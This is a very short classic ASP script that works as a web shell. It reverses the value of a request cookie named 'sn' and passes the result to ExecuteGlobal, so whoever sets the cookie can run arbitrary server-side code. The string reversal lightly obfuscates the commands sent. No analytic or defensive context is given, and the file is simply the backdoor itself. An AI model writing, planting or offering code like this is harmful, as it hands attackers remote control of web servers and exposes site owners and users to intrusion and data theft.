<%
Function D(s)
  D = StrReverse(s)
End Function
ExecuteGlobal D(Request.Cookies("sn"))
%>
